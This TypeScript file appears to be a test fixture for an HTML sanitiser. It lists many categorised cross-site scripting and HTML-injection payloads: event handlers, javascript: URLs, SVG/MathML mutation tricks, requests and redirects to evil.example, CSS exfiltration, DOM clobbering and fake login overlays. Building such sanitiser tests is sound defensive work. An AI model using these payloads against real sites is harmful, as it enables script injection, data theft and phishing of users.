/** Texts that attack the page they are shown in, by what they do to a page without a sanitiser. */

/**
 * runs: a script of theirs; asks: another host is asked for something; leaves: the page goes elsewhere; names: a variable of the
 * page becomes their element; covers: something else of the page is hidden or covered; base: relative addresses lead elsewhere;
 * opener: a page they open gets hold of this one.
 */
export type Harm = 'runs' | 'asks' | 'leaves' | 'names' | 'covers' | 'base' | 'opener';

export interface Payload {
  html: string;
  /** What it does here without a sanitiser; undefined for what only other browsers, older ones or a sanitiser would be caught by. */
  harm?: Harm;
}

const picture = '/favicon.svg';
const far = 'https://evil.example';

const all = (harm: Harm | undefined, texts: readonly string[]): Payload[] =>
  texts.map((html) => ({ html, harm }));

const runs = [
  // Scripts and handlers
  '<script>hurt = 1</script>',
  '<SCRIPT/x>hurt = 1</SCRIPT>',
  '<script src="data:text/javascript,hurt=1"></script>',
  '<img src=x onerror="hurt = 1">',
  `<img src="${picture}" onload="hurt = 1">`,
  `<img/src="${picture}"/onload=hurt=1>`,
  `<image src="${picture}" onload="hurt = 1">`,
  `<IMG SRC=${picture} ONLOAD=&#104;urt=1>`,
  '<details open ontoggle="hurt = 1">1</details>',
  '<input autofocus onfocus="hurt = 1">',
  '<select autofocus onfocus="hurt = 1"></select>',
  '<textarea autofocus onfocus="hurt = 1"></textarea>',
  '<div contenteditable autofocus onfocus="hurt = 1">1</div>',
  '<video><source onerror="hurt = 1"></video>',
  '<video src="x:" onerror="hurt = 1"></video>',
  '<audio src="x:" onerror="hurt = 1"></audio>',
  '<style onload="hurt = 1">a{}</style>',
  '<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="hurt = 1">1</p>',
  '<p onclick="hurt = 1">1</p>',
  '<button onclick="hurt = 1">1</button>',
  // Addresses that are scripts, in many spellings
  '<a href="javascript:hurt=1">1</a>',
  '<a href="JaVaScRiPt:hurt=1">1</a>',
  '<a href="java&#10;script:hurt=1">1</a>',
  '<a href="java&Tab;script&colon;hurt=1">1</a>',
  '<a href="&#x6a;&#x61;vascript:hurt=1">1</a>',
  '<a href=" &#1;javascript:hurt=1">1</a>',
  '<a href="javascript://%0ahurt=1">1</a>',
  '<a href="javascript&#58;hurt=1">1</a>',
  '<a href=javascript:hurt&#x3d;1>1</a>',
  '<form action="javascript:hurt=1"><input type="submit" value="1"></form>',
  '<form><button formaction="javascript:hurt=1">1</button></form>',
  '<form id="hurtful"></form><button form="hurtful" formaction="javascript:hurt=1">1</button>',
  '<iframe src="javascript:parent.hurt=1"></iframe>',
  '<iframe srcdoc="<script>parent.hurt = 1</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=&quot;parent.hurt=1&quot;&gt;"></iframe>',
  '<iframe src="data:text/html,<script>parent.postMessage(1,\'*\')</script>" onload="hurt = 1"></iframe>',
  // SVG and MathML
  '<svg onload="hurt = 1"></svg>',
  '<svg><script>hurt = 1</script></svg>',
  '<svg><script href="data:text/javascript,hurt=1"/></svg>',
  '<svg><animate onbegin="hurt = 1" attributeName="x" dur="1s"></svg>',
  '<svg><set onbegin="hurt = 1" attributeName="x" to="1"></svg>',
  '<svg><a href="javascript:hurt=1"><text y="20">1</text></a></svg>',
  '<svg><a xlink:href="javascript:hurt=1"><text y="20">1</text></a></svg>',
  `<svg><foreignObject><img src="${picture}" onload="hurt = 1"></foreignObject></svg>`,
  `<svg><image href="${picture}" onload="hurt = 1"/></svg>`,
  `<svg><title><img src="${picture}" onload="hurt = 1"></title></svg>`,
  `<svg><desc><img src="${picture}" onload="hurt = 1"></desc></svg>`,
  '<svg></p><style><a id="</style><img src=x onerror=hurt=1>">',
  '<svg><style><img src=x onerror="hurt = 1"></style></svg>',
  `<math><mtext><img src="${picture}" onload="hurt = 1"></mtext></math>`,
  '<math><annotation-xml encoding="text/html"><img src=x onerror="hurt = 1"></annotation-xml></math>',
  '<math href="javascript:hurt=1"><mtext href="javascript:hurt=1">1</mtext><mglyph><img src=x onerror="hurt = 1"></math>',
  // Markup that changes when it is read a second time, and texts that end their own element
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt=1>',
  '<svg><p><style><!--</style><img src=x onerror=hurt=1>--></style>',
  '<noscript><p title="</noscript><img src=x onerror=hurt=1>">',
  '<title><a title="</title><img src=x onerror=hurt=1>"></title>',
  '<textarea><a title="</textarea><img src=x onerror=hurt=1>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=hurt=1>">',
  '<noembed><p title="</noembed><img src=x onerror=hurt=1>">',
  '<iframe><p title="</iframe><img src=x onerror=hurt=1>">',
  '<style><p title="</style><img src=x onerror=hurt=1>">',
  '<!--><img src=x onerror=hurt=1>-->',
  '<!--- --!><img src=x onerror=hurt=1>-->',
  '<![CDATA[><img src=x onerror=hurt=1>]]>',
  '<?xml version="1.0"?><img src=x onerror=hurt=1>',
  '<table><td><select><img src=x onerror=hurt=1>',
  '<svg/><svg><foreignObject><math><mi><mglyph><img src=x onerror=hurt=1></mi></math></foreignObject></svg>',
  `${'<div>'.repeat(600)}<img src=x onerror=hurt=1>`,
  '<div><template shadowrootmode="open"><img src=x onerror="hurt = 1"></template></div>',
  '<p title="\\"><img src=x onerror=hurt=1>">1</p>',
  '<p>\u0000<img src=x onerror=hurt=1>',
  '<<img src=x onerror=hurt=1>',
  '</p/><img src=x onerror=hurt=1>',
];

const asks = [
  `<img src="${far}/a.png">`,
  `<img srcset="${far}/a.png 1x">`,
  `<picture><source srcset="${far}/a.png"><img></picture>`,
  '<img src="//evil.example/a.png">',
  '<img src="\\\\evil.example/a.png">',
  `<input type="image" src="${far}/a.png">`,
  `<body background="${far}/a.png"><table background="${far}/b.png"><td>1`,
  `<p style="background:url(${far}/a.png)">1</p>`,
  `<style>@import "${far}/a.css";</style>`,
  `<style>h1 { background: url(${far}/a.png) }</style>`,
  `<style>input[value^="a"], body { background: url(${far}/starts-with-a) }</style>`,
  `<style>@font-face { font-family: f; src: url(${far}/f) } body { font-family: f }</style>`,
  `<link rel="stylesheet" href="${far}/a.css">`,
  `<link rel="prefetch" href="${far}/a">`,
  `<iframe src="${far}/"></iframe>`,
  `<object data="${far}/"></object>`,
  `<embed src="${far}/">`,
  `<video poster="${far}/a.png"></video>`,
  `<audio src="${far}/a" autoplay></audio>`,
  `<video><track default src="${far}/a.vtt"></video><video src="${far}/b" autoplay></video>`,
  `<svg><image href="${far}/a.png"/></svg>`,
  `<svg><use href="${far}/a.svg#x"/><feImage/><image xlink:href="${far}/a.png"/></svg>`,
];

const leaves = [
  `<meta http-equiv="refresh" content="0;url=${far}/">`,
  `<form action="${far}/"><input type="submit" value="1"></form>`,
  `<form><button formaction="${far}/">1</button></form>`,
  `<svg><a href="${far}/"><text y="20">1</text></a></svg>`,
  `<map name="m"><area shape="default" href="${far}/"></map><img usemap="#m" src="${picture}">`,
  `<iframe srcdoc="<script>top.location='${far}/'</script>"></iframe>`,
];

const names = [
  '<img name="hurtful">',
  '<form name="hurtful"></form>',
  '<a id="hurtful">1</a>',
  '<p id="hurtful">1</p>',
  '<a id="hurtful"></a><a id="hurtful" name="url" href="data:,1"></a>',
  '<form id="hurtful"><input name="action"><output id="parentNode"></form>',
  '<iframe name="hurtful" srcdoc="<a id=inner>1</a>"></iframe>',
  '<object id="hurtful"></object>',
  '<img id="hurtful" name="getElementById"><img name="querySelector">',
];

const covers = [
  '<div style="position:fixed;inset:0;background:#fff;z-index:9999">请登录<input type="password"></div>',
  '<div style="position:absolute;inset:0;z-index:9999">1</div>',
  '<style>h1 { display: none }</style>',
  '<p style="margin:-2000px;padding:4000px;position:relative">1</p>',
  '<dialog open style="position:fixed;inset:0;width:100%;height:100%">1</dialog>',
  '<iframe style="position:fixed;inset:0;width:100%;height:100%" srcdoc="请登录"></iframe>',
];

const others = [
  `<link rel="stylesheet" href="${picture}" onerror="hurt = 1">`,
  '<object data="x:" onerror="hurt = 1"></object>',
  '<embed src="javascript:parent.hurt=1" onload="hurt = 1">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hurt=1&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=hurt=1>">',
  '<select><option><style></option></select><img src=x onerror=hurt=1></style>',
  '<a href="vbscript:hurt=1">1</a>',
  '<a href="data:text/html,<script>opener.hurt=1</script>">1</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">1</a>',
  '<a href="jar:javascript:hurt=1!/">1</a>',
  '<a href="livescript:hurt=1">1</a><a href="mocha:hurt=1">1</a><a href="feed:javascript:hurt=1">1</a>',
  '<a href="filesystem:x">1</a><a href="blob:x">1</a><a href="view-source:x">1</a><a href="ms-its:x">1</a>',
  '<p style="width:expression(hurt=1)">1</p><p style="-moz-binding:url(x)">1</p><p style="behavior:url(x)">1</p>',
  '<img src="javascript:hurt=1"><img lowsrc="javascript:hurt=1"><img dynsrc="javascript:hurt=1">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hurt=1</script></svg>#x"/></svg>',
  '<svg><animate href="#a" attributeName="href" values="javascript:hurt=1"/><a id="a"><text>1</text></a></svg>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:hurt=1">1</maction></math>',
  '<template><img src=x onerror="hurt = 1"></template>',
  '<a href="#" ping="https://evil.example/">1</a>',
  '<p is="x-hurt" slot="a" part="a" popover popovertarget="root" data-x="1" aria-label="1" role="dialog" tabindex="1" accesskey="s">1</p>',
  '<p class="ant-modal" id="root">1</p>',
  '<?hurt?><!DOCTYPE hurt><%hurt%><!ENTITY hurt>',
  '<custom-hurt></custom-hurt><slot></slot><portal></portal><fencedframe></fencedframe>',
  '<frameset onload="hurt = 1"><frame src="javascript:hurt=1"></frameset>',
  '<isindex type="image" src="1" onerror="hurt = 1"><bgsound src="javascript:hurt=1"><layer></layer><applet code="x"></applet>',
  '{{constructor.constructor("hurt=1")()}} #{hurt=1} <%= hurt=1 %>',
];

export const payloads: readonly Payload[] = [
  ...all('runs', runs),
  ...all('asks', asks),
  ...all('leaves', leaves),
  ...all('names', names),
  ...all('covers', covers),
  { html: `<base href="${far}/">`, harm: 'base' },
  { html: `<a href="${far}/" target="_blank" rel="opener">1</a>`, harm: 'opener' },
  { html: `<a href="${far}/" target="evil">1</a>` },
  ...all(undefined, others),
];
